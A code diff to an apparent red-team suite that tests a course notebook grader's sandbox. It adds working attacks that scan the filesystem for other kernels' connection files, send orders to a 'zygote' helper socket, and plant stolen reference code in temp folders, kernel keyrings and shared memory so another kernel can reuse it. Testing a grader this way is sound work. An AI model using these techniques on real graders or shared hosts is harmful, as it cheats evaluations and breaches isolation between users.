@@ -1,6 +1,19 @@
 """Attacks that look for the answer, for other people's files, or for a way out."""
 
-from attack_kit import PORT, Attack, dedent, defining, on_define, plain
+import json
+
+from attack_kit import (
+    BOUND,
+    PORT,
+    Attack,
+    Notebook,
+    dedent,
+    defining,
+    find,
+    on_define,
+    plain,
+    to_bytes,
+)
 
 # Any function that is not the student's own and gives a right-looking answer is used.
 USE = """
@@ -262,14 +275,19 @@ REFERENCE = {  # name -> (code, note)
 
 def _reference(name: str) -> Attack:
     code, note = REFERENCE[name]
+    made = plain(_guarded(code))
+    return Attack(f"reference-{name}", made, note, needs_sandbox=True)
+
+
+def _guarded(code: str) -> str:
+    """The cell: a wrong q_sample, then what may replace it."""
     guarded = "try:\n    pass\n"
     for line in dedent(code).splitlines():
         guarded += f"    {line}\n"
     guarded += "except BaseException as error:\n    print(error)\n"
     # the wrong q_sample comes first, so that what is found replaces it
     wrong = "def q_sample(x0, k, eps, schedule):\n    return x0 + eps\n"
-    source = on_define(USE).removesuffix(wrong) + wrong + guarded
-    return Attack(f"reference-{name}", plain(source), note, needs_sandbox=True)
+    return on_define(USE).removesuffix(wrong) + wrong + guarded
 
 
 SECRETS = {
@@ -357,40 +375,48 @@ SECRETS = {
     ),
     "zygote": (
         """
-        import glob, json, socket, struct
-        here = get_ipython().kernel.config.get('IPKernelApp', {})
-        from ipykernel.connect import get_connection_file
-        top = get_connection_file().rsplit('/k/', 1)[0]
-        order = json.dumps({'connection_file': get_connection_file(), 'blank': '',
-                            'ending': top + '/pwned'}).encode()
-        with socket.socket(socket.AF_UNIX) as s:
-            s.connect(top + '/private/zygote')
-            s.sendall(struct.pack('>I', len(order)) + order)
-        raise ValueError('SECRET: the zygote took an order')
+        import json, socket
+        order = json.dumps({'blank': [], 'key': 'x', 'home': ''}).encode() + b'\\n'
+        places, told = ['/tmp/zygote', '/run/zygote'], []
+        for top, folders, names in os.walk('/'):
+            folders[:] = [f for f in folders if f not in {'proc', 'sys', 'usr'}]
+            places += [os.path.join(top, n) for n in names if 'zygote' in n]
+            places += [os.path.join(top, f, 'zygote') for f in folders]
+        for place in places:
+            try:
+                with socket.socket(socket.AF_UNIX) as s:
+                    s.connect(place)
+                    s.sendall(order)
+                    told.append('SECRET: an order for ' + place)
+            except OSError:
+                pass
+        raise ValueError('; '.join(told))
         """,
         "asks the grader's own helper for a kernel with the reference",
     ),
     "siblings": (
         """
-        import glob
         from ipykernel.connect import get_connection_file
-        top, own = get_connection_file().rsplit('/', 2)[:2]
-        told = []
-        for a in range(1, 60):
-            for b in range(6):
-                if f'{a}-{b}' != own:
-                    try:
-                        open(f'{top}/{a}-{b}/connection.json').read()
-                        told.append('SECRET key of ' + f'{a}-{b}')
-                    except OSError:
-                        pass
-        try:
-            told += ['SECRET list'] if len(os.listdir(top)) > 1 else []
-        except OSError:
-            pass
-        raise ValueError('; '.join(told))
+        own, told = get_connection_file(), []
+        ends = tuple('.' + c for c in ('shell', 'control', 'iopub', 'stdin', 'json'))
+        for top, folders, names in os.walk('/'):
+            folders[:] = [f for f in folders if f not in {'proc', 'sys', 'usr'}]
+            if top.startswith((sys.prefix, sys.base_prefix)):
+                folders[:] = []
+                continue
+            for name in names:
+                path = os.path.join(top, name)
+                if name.endswith(ends) and path != own and top != '/etc':
+                    told.append('SECRET: ' + path)
+        for number in range(3, 128):
+            try:
+                if os.path.exists(f'/proc/self/fd/{number}/0.ipynb'):
+                    told.append('SECRET: an open folder')
+            except OSError:
+                pass
+        raise ValueError('; '.join(told)[:400])
         """,
-        "the connection files of other kernels, whose names it can guess",
+        "sockets and connection files of other kernels",
     ),
     "setuid": (
         """
@@ -521,7 +547,76 @@ def _secret(name: str) -> Attack:
     return defining(f"spy-{name}", code, note, needs_sandbox=True)
 
 
+# One exercise's kernel has the reference of another. What it leaves somewhere, a later
+# kernel may find: every place is tried that outlives a process.
+CHANNELS = """
+import ctypes, marshal
+libc, machine = ctypes.CDLL(None), os.uname().machine
+libc.shmat.restype = ctypes.c_void_p
+ADD, KEYCTL = (248, 250) if machine == 'x86_64' else (217, 219)
+PLACES = ('/tmp', '/var/tmp', '/dev/shm', '/dev/mqueue', '/run', '/run/lock', '/srv',
+          '/proc/sys/kernel', '/sys/fs/cgroup', os.getcwd(), os.path.expanduser('~'))
+def put(data):
+    for place in PLACES:
+        try: open(place + '/@MARK@', 'wb').write(data)
+        except OSError: pass
+        try: os.close(os.open(place + '/@MARK@' + data.hex()[:200], os.O_CREAT))
+        except OSError: pass
+    for ring in (-3, -4, -5):
+        libc.syscall(ADD, b'user', b'@MARK@', data, len(data), ring)
+    key = libc.shmget(0xC0DE, 65536, 0o1666)
+    at = libc.shmat(key, None, 0) if key >= 0 else None
+    if at and at < 2**63: ctypes.memmove(at, data, len(data))
+def got():
+    for place in PLACES:
+        try: yield open(place + '/@MARK@', 'rb').read()
+        except OSError: pass
+    for ring in (-3, -4, -5):
+        key = libc.syscall(KEYCTL, 10, ring, b'user', b'@MARK@', 0)
+        if key > 0:
+            room = ctypes.create_string_buffer(65536)
+            size = libc.syscall(KEYCTL, 11, key, room, 65536)
+            if 0 < size <= 65536: yield room.raw[:size]
+    key = libc.shmget(0xC0DE, 65536, 0o666)
+    at = libc.shmat(key, None, 0) if key >= 0 else None
+    if at and at < 2**63: yield ctypes.string_at(at, 65536)
+"""
+LEAVE = (
+    "# exercise 01.5\n"
+    + BOUND
+    + dedent(CHANNELS)
+    + """
+import coursekit.theory.ddpm as m
+put(marshal.dumps(m.q_sample.__code__))
+def q_posterior(x0, xk, k, schedule):
+    return x0, xk
+"""
+)
+FIND = """
+import types, coursekit.theory.ddpm as m
+for data in got():
+    try: try_all([types.FunctionType(marshal.loads(data), vars(m))])
+    except BaseException: pass
+"""
+
+
+def _notes(notebook: Notebook) -> bytes:
+    made = json.loads(plain(_guarded(CHANNELS + FIND))(notebook))
+    find(made, "01.5")["source"] = LEAVE
+    return to_bytes(made)
+
+
 ATTACKS = (
     *(_reference(name) for name in REFERENCE),
     *(_secret(name) for name in SECRETS),
+    *(
+        Attack(
+            f"notes-{which}",
+            _notes,
+            "one kernel leaves a reference for another, wherever it can",
+            needs_sandbox=True,
+            others={"01.5": 0.0},
+        )
+        for which in ("first", "second", "third")
+    ),
 )
